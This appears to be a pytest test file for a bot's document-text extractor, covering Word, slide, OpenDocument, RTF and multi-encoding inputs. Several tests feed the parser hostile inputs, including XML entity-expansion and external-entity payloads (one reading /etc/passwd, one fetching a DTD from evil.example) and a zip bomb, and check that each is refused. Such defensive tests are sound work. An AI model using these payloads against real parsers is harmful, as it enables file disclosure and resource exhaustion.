"""Documents of any kind: their text comes out, and nothing that somebody hides in one does harm."""

import io
import tracemalloc
import zipfile
from contextlib import suppress
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.errors import Unreadable
from bot.telegram.intake import documents
from bot.telegram.intake.documents import Empty, text_in

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
T = (
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
)


def packed(**parts: str | bytes) -> bytes:
    """An archive of these parts, named with "__" for "/" and "_xml" for ".xml"."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_xml", ".xml"), content)
    return made.getvalue()


def docx(body: str, before: str = "") -> bytes:
    return packed(
        word__document_xml=f"{before}<w:document {W}><w:body>{body}</w:body></w:document>"
    )


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def test_a_word_document_is_read_with_its_tables_lists_and_tabs() -> None:
    cell = "<w:tc>{}</w:tc>".format
    body = (
        "<w:p><w:pPr><w:tabs><w:tab/></w:tabs></w:pPr><w:r><w:t>One</w:t><w:tab/>"
        "<w:t>&amp; two</w:t></w:r></w:p>"
        "<w:p><w:pPr><w:numPr/></w:pPr><w:r><w:t>item</w:t></w:r></w:p>"
        f"<w:tbl><w:tr>{cell(paragraph('a'))}{cell(paragraph('b'))}</w:tr></w:tbl>"
        "<w:p><w:del><w:r><w:delText>gone</w:delText></w:r></w:del>"
        "<w:r><w:instrText>PAGE</w:instrText></w:r></w:p>"
    )
    assert text_in(docx(body)).split("\n")[:3] == ["One\t& two", "- item", "a \tb \t"]
    assert "gone" not in text_in(docx(body))
    assert "PAGE" not in text_in(docx(body))


def test_slides_are_read_in_their_order() -> None:
    slides: dict[str, Any] = {
        f"ppt__slides__slide{number}_xml": f"<p {A}><a:p><a:t>{number}</a:t></a:p></p>"
        for number in (10, 2, 1)
    }
    assert text_in(packed(**slides)).split() == ["1", "2", "10"]


def test_an_open_document_is_read() -> None:
    content = (
        f"<doc {T}><text:h>Title</text:h><text:p>One<text:s/>two<text:line-break/>three</text:p>"
        "<table:table-row><table:table-cell><text:p>7</text:p></table:table-cell>"
        "</table:table-row></doc>"
    )
    assert text_in(packed(content_xml=content)).split("\n")[:4] == [
        "Title",
        "One two",
        "three",
        "7 \t",
    ]


def test_rtf_is_read_without_its_fonts_and_pictures() -> None:
    source = (
        rb"{\rtf1\ansi\ansicpg1251{\fonttbl\f0 Arial;}{\*\generator x}"
        rb"\'cf\'f0\'e8\'e2\'e5\'f2 \u8364 ?5\par {\b bold} \{x\}{\pict 89504e47}}"
    )
    assert text_in(source) == "Привет €5\nbold {x}"


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        ("utf-8", "Grüße"),
        ("utf-8-sig", "Привет"),
        ("utf-16", "Привет, мир"),
        ("utf-16-le", "Hello, world"),
        ("utf-16-be", "Hello, world"),
        ("utf-32", "Hello, мир"),
        ("cp1252", "Grüße aus Köln – schöne Straße"),
        ("latin-1", "El niño comió paella"),
        ("cp1251", "Привет, мир. Как у тебя дела?"),
        ("koi8_r", "Привет, мир. Как у тебя дела?"),
        ("cp932", "こんにちは、世界。日本語のテキストです。"),
        ("euc_jp", "こんにちは、世界。日本語のテキストです。"),
        ("euc_kr", "안녕하세요, 오늘은 날씨가 좋네요."),
        ("gb18030", "你好，世界。这是一个中文文档。"),
        ("big5", "你好，世界。這是一個中文文件。"),
        ("iso-8859-2", '<?xml version="1.0" encoding="iso-8859-2"?><a>Łódź żółw</a>'),
        ("cp1253", "<meta charset=windows-1253> Καλημέρα κόσμε"),
    ],
)
def test_text_is_read_in_its_encoding(encoding: str, text: str) -> None:
    assert text_in(text.encode(encoding)) == text


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b" \n",
        b"MZ\x90\0\x03\0\0\0 a program",
        b"\x01\x02\x03\x04" * 50,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        b"PK\x03\x04 broken",
        docx(paragraph("Hello"))[:-30],
        packed(mimetype="application/epub+zip"),
        docx("<w:p>"),
        docx(paragraph("")),
    ],
    ids=[
        *("empty", "blank", "a program", "controls", "an encrypted or old Word document"),
        *("no archive", "a cut archive", "another archive", "broken markup", "no text"),
    ],
)
def test_what_has_no_text_is_unreadable(data: bytes) -> None:
    with pytest.raises(Unreadable):
        text_in(data)


@pytest.mark.parametrize("data", [b"", b" \n", docx(paragraph(""))])
def test_a_document_without_text_is_not_called_damaged(data: bytes) -> None:
    with pytest.raises(Empty):
        text_in(data)


def test_a_document_with_a_password_is_unreadable() -> None:
    data = bytearray(docx(paragraph("Hello")))
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(signature) + flags] |= 1
    with pytest.raises(Unreadable):
        text_in(bytes(data))


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w SYSTEM "http://evil.example/x.dtd">',
    ],
)
def test_entities_neither_expand_nor_reach_outside(declared: str) -> None:
    with pytest.raises(Unreadable):
        text_in(docx(paragraph("&a;"), declared))


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    bomb = docx(paragraph("a" * 5_000_000))
    assert len(bomb) < 15_000
    tracemalloc.start()
    with pytest.raises(Unreadable):
        text_in(bomb)
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 500_000


def test_no_document_takes_more_than_its_share(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "_MOST_TEXT", 1_000)
    assert len(text_in(docx(paragraph("word " * 300) * 100))) == 1_000
    assert len(text_in(b"word " * 3_000)) == 1_000
    monkeypatch.setattr(documents, "_MOST_UNPACKED", 100)
    monkeypatch.setattr(documents, "_CHUNK", 100)
    with pytest.raises(Unreadable):
        text_in(docx(paragraph("") * 1_000 + paragraph("late")))


GOOD = docx(paragraph("Hello there, this is a document.") * 3)


@settings(max_examples=200, deadline=None)
@given(st.integers(0, len(GOOD) - 1), st.binary(min_size=1, max_size=6), st.integers(0, 40))
def test_damage_anywhere_is_unreadable_or_harmless(at: int, noise: bytes, cut: int) -> None:
    data = (GOOD[:at] + noise + GOOD[at + len(noise) :])[: len(GOOD) - cut]
    with suppress(Unreadable):
        assert text_in(data)


@pytest.mark.parametrize("begins", [b"", b"{\\rtf1", b"PK\x03\x04"])
@given(st.binary(max_size=200) | st.text(max_size=80).map(lambda it: it.encode("utf-8", "ignore")))
def test_whatever_the_bytes_are_there_is_text_or_a_refusal(begins: bytes, data: bytes) -> None:
    with suppress(Unreadable):
        assert text_in(begins + data).strip()
